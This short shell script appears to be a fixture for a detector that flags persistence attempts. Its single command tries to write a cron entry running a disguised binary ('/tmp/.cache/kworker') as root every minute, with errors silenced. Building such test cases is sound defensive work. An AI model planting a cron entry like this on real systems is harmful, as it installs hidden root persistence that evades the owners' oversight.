#!/bin/sh
# expect: persistence
# why: a cron job (the write fails on the read-only /etc; trying is the finding)
echo '* * * * * root /tmp/.cache/kworker' > /etc/cron.d/update 2>/dev/null
true
